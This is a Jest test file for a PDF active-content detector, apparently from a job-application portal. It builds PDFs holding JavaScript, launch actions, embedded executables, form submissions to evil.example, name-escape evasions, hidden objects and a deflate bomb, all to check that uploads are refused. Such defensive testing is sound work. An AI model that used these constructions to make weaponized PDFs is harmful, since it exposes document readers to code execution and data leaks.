import { deflateSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { cvSchema } from '@postulate/contracts';
import { cvPdfBuffer } from '@postulate/cv-pdf';
import { validCv } from '../../test/applicants.js';
import { hasActivePdfContent } from './pdf-content.js';

/*
 * Hand-written PDFs: a catalogue (1), its pages (2), one page (3) and whatever objects a case adds
 * (from 4), with their cross-reference table, so each is a file a reader opens. Packed, every object
 * but the streams goes into a deflated object stream, listed by a cross-reference stream.
 */

interface Extra {
  /** Entries added to the catalogue and to the page. */
  catalog?: string;
  page?: string;
  /** Objects 4, 5... as written between 'obj' and 'endobj'. */
  objects?: string[];
  pack?: boolean;
}

const isStream = (body: string) => body.includes('stream\n');

function pdf({ catalog = '', page = '', objects = [], pack = false }: Extra = {}): Buffer {
  const bodies: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${page} >>`,
    ...objects,
  ];
  const packed = pack ? bodies.flatMap((body, index) => (typeof body === 'string' && !isStream(body) ? [{ number: index + 1, body }] : [])) : [];
  const objectStream = bodies.length + 1;
  if (pack) {
    const pairs: string[] = [];
    let offset = 0;
    for (const { number, body } of packed) {
      pairs.push(`${number} ${offset}`);
      offset += body.length + 1;
    }
    const header = `${pairs.join(' ')}\n`;
    const data = deflateSync(Buffer.from(header + packed.map(({ body }) => `${body}\n`).join(''), 'latin1'));
    bodies.push(
      Buffer.concat([
        Buffer.from(`<< /Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`, 'latin1'),
        data,
        Buffer.from('\nendstream', 'latin1'),
      ]),
    );
  }
  const parts = [Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0].length;
  bodies.forEach((body, index) => {
    offsets.push(length);
    if (packed.some(({ number }) => number === index + 1)) return;
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`, 'latin1'), Buffer.from(body as string, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    length += object.length;
    parts.push(object);
  });
  if (!pack) {
    const xref = ['xref', `0 ${bodies.length + 1}`, '0000000000 65535 f ', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `)];
    parts.push(Buffer.from(`${xref.join('\n')}\ntrailer\n<< /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`, 'latin1'));
    return Buffer.concat(parts);
  }
  // Entries of 1 + 4 + 2 bytes: type 0 (free), 1 (at an offset) or 2 (in the object stream, at an index).
  const entry = (type: number, field: number, index = 0) => {
    const bytes = Buffer.alloc(7);
    bytes.writeUInt8(type, 0);
    bytes.writeUInt32BE(field, 1);
    bytes.writeUInt16BE(index, 5);
    return bytes;
  };
  const entries = [
    entry(0, 0, 65535),
    ...offsets.map((offset, index) => {
      const at = packed.findIndex(({ number }) => number === index + 1);
      return at < 0 ? entry(1, offset) : entry(2, objectStream, at);
    }),
    entry(1, length),
  ];
  const table = Buffer.concat(entries);
  parts.push(
    Buffer.from(`${bodies.length + 1} 0 obj\n<< /Type /XRef /Size ${bodies.length + 2} /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`, 'latin1'),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${length}\n%%EOF\n`, 'latin1'),
  );
  return Buffer.concat(parts);
}

/** A stream object's text (uncompressed). */
const stream = (dict: string, content: string) => `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`;

const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /Border [0 0 0] /A ${action} >>`;

/** Each active case, written out, as the tests below vary it. */
const ACTIVE: [string, Extra][] = [
  [
    'an XFA form with a script',
    { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [stream('', '<xdp:xdp><script>app.alert(1)</script></xdp:xdp>')] },
  ],
  ['additional actions on a page', { page: '/AA << /O << /S /Named /N /Print >> >>' }],
  [
    'additional actions on an annotation',
    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /Named /N /Print >> >> >>'] },
  ],
  ['additional actions on the catalogue', { catalog: '/AA << /WC << /S /Named /N /Print >> >>' }],
  [
    'an embedded file',
    {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ')],
    },
  ],
  [
    'a file attachment annotation',
    {
      page: '/Annots [4 0 R]',
      objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>', stream('', 'MZ')],
    },
  ],
  ['rich media', { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'] }],
  ['a document-level script', { catalog: '/Names << /JavaScript 4 0 R >>', objects: ['<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>'] }],
  ['a link that launches a program', { page: '/Annots [4 0 R]', objects: [link('<< /S /Launch /F (calc.exe) >>')] }],
  [
    'a form that submits itself',
    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>'] },
  ],
  ['a form that imports data', { page: '/Annots [4 0 R]', objects: [link('<< /S /ImportData /F (datos.fdf) >>')] }],
  ['a link to another file', { page: '/Annots [4 0 R]', objects: [link('<< /S /GoToR /F (otro.pdf) /D [0 /Fit] >>')] }],
  ['a link into an embedded file', { page: '/Annots [4 0 R]', objects: [link('<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>')] }],
  ['an action run on opening', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
  ['an action chained after the page to open at', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>' }],
  ['an action run on opening, by reference', { catalog: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (https://evil.example/) >>'] }],
  [
    'an address opened from the outline',
    {
      catalog: '/Outlines 4 0 R',
      objects: ['<< /Type /Outlines /First 5 0 R /Count 1 >>', '<< /Title (a) /Parent 4 0 R /A << /S /URI /URI (https://evil.example/) >> >>'],
    },
  ],
  [
    'an address opened by a form field',
    { page: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A 5 0 R >>', '<< /S /URI /URI (https://evil.example/) >>'] },
  ],
  [
    'an address opened after a link',
    { page: '/Annots [4 0 R]', objects: [link('<< /S /URI /URI (https://a.example/) /Next << /S /URI /URI (https://evil.example/) >> >>')] },
  ],
];

/** Every name in the case's dictionaries with its first letter spelt #xx, as a reader decodes it. */
const escaped = (extra: Extra): Extra => {
  const escape = (text: string) => text.replace(/\/([A-Za-z])/g, (_, letter: string) => `/#${letter.charCodeAt(0).toString(16)}`);
  return {
    ...extra,
    catalog: escape(extra.catalog ?? ''),
    page: escape(extra.page ?? ''),
    objects: extra.objects?.map((body) => (isStream(body) ? body : escape(body))),
  };
};

describe('hasActivePdfContent', () => {
  it.each(ACTIVE)('refuses %s', (_case, extra) => {
    expect(hasActivePdfContent(pdf(extra))).toBe(true);
  });

  it.each(ACTIVE)('refuses %s inside an object stream', (_case, extra) => {
    const file = pdf({ ...extra, pack: true });
    expect(file.includes('ObjStm')).toBe(true);
    expect(hasActivePdfContent(file)).toBe(true);
  });

  it.each(ACTIVE)('refuses %s with its names spelt with #xx escapes', (_case, extra) => {
    const file = pdf(escaped(extra));
    expect(file.toString('latin1')).toMatch(/\/#[0-9a-f]{2}/);
    expect(hasActivePdfContent(file)).toBe(true);
  });

  it('refuses additional actions spelt with escapes inside an object stream', () => {
    const file = pdf({
      page: '/Annots [4 0 R]',
      pack: true,
      objects: ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A#41 << /E << /S /Named /N /Print >> >> >>'],
    });
    expect(hasActivePdfContent(file)).toBe(true);
  });

  it('refuses an object a reader finds by its offset inside another stream', () => {
    const hidden = stream('/Type /XObject /Subtype /Image /Width 1 /Height 1', '(\n9 0 obj << /Type /Annot /Subtype /Widget /AA << >> >> endobj\n');
    expect(hasActivePdfContent(pdf({ objects: [hidden] }))).toBe(true);
  });

  it('refuses an object stream it cannot read (another filter, a predictor, broken, past the inflate budget) or whose header hides a dictionary', () => {
    const objectStream = (dict: string, data: Buffer) =>
      Buffer.concat([
        Buffer.from(`%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
        data,
        Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1'),
      ]);
    // Parameters that change nothing are read; a predictor is not decoded.
    const packed = deflateSync('5 0 << /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>');
    expect(hasActivePdfContent(objectStream('/Filter [/FlateDecode] /DecodeParms [null]', packed))).toBe(false);
    expect(hasActivePdfContent(objectStream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', packed))).toBe(true);
    // A header that lists nothing: the dictionary is still read.
    expect(hasActivePdfContent(objectStream('/Filter /FlateDecode', deflateSync('<< /AA << >> >>')))).toBe(true);
    const hex = Buffer.from(Buffer.from('5 0 << /AA << >> >>').toString('hex'), 'latin1');
    expect(hasActivePdfContent(objectStream('/Filter /ASCIIHexDecode', hex))).toBe(true);
    expect(hasActivePdfContent(objectStream('/Filter /FlateDecode', Buffer.from('not deflated')))).toBe(true);
    // 64 MB of spaces deflate to 64 KB: inflated up to the budget, then refused.
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, ' '));
    expect(bomb.length).toBeLessThan(100_000);
    expect(hasActivePdfContent(objectStream('/Filter /FlateDecode', bomb))).toBe(true);
  });

  it('refuses absurd nesting and endless unclosed strings without running out of stack or time', () => {
    expect(hasActivePdfContent(Buffer.from(`%PDF-1.4\n1 0 obj\n${'['.repeat(200_000)}\nendobj\n%%EOF\n`, 'latin1'))).toBe(true);
    const started = Date.now();
    expect(hasActivePdfContent(Buffer.from(`%PDF-1.4\n${'1 0 obj ('.repeat(200_000)}\n%%EOF\n`, 'latin1'))).toBe(true);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('accepts a plain PDF, links that open addresses, and a destination to open at', () => {
    expect(hasActivePdfContent(pdf())).toBe(false);
    const links = {
      catalog: '/URI << /Base (https://postulate.example/) >>',
      page: '/Annots [4 0 R 5 0 R]',
      objects: [link('<< /S /URI /URI (https://www.argentina.gob.ar/) >>'), link('6 0 R'), '<< /Type /Action /S /URI /URI (mailto:rrhh@empresa.test) >>'],
    };
    expect(hasActivePdfContent(pdf(links))).toBe(false);
    expect(hasActivePdfContent(pdf({ ...links, pack: true }))).toBe(false);
    expect(hasActivePdfContent(pdf(escaped(links)))).toBe(false);
    expect(hasActivePdfContent(pdf({ catalog: '/OpenAction [3 0 R /Fit] /PageMode /UseNone' }))).toBe(false);
    expect(hasActivePdfContent(pdf({ catalog: '/OpenAction 4 0 R', objects: ['[3 0 R /XYZ null null 0]'] }))).toBe(false);
    // As LaTeX's hyperref opens every document.
    expect(hasActivePdfContent(pdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'], pack: true }))).toBe(false);
    // A glyph may be named AA: only the key /AA is an additional action.
    expect(hasActivePdfContent(pdf({ objects: ['<< /Type /Encoding /Differences [65 /AA /A#41] >>'] }))).toBe(false);
  });

  it('accepts the CV PDF the portal itself draws', async () => {
    const cv = await cvPdfBuffer({
      cv: cvSchema.parse(validCv()),
      application: { titulo: 'Analista', respuestas: [{ pregunta: '¿Por qué?', respuesta: 'Porque sí' }] },
    });
    expect(cv.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(hasActivePdfContent(cv)).toBe(false);
  });
});
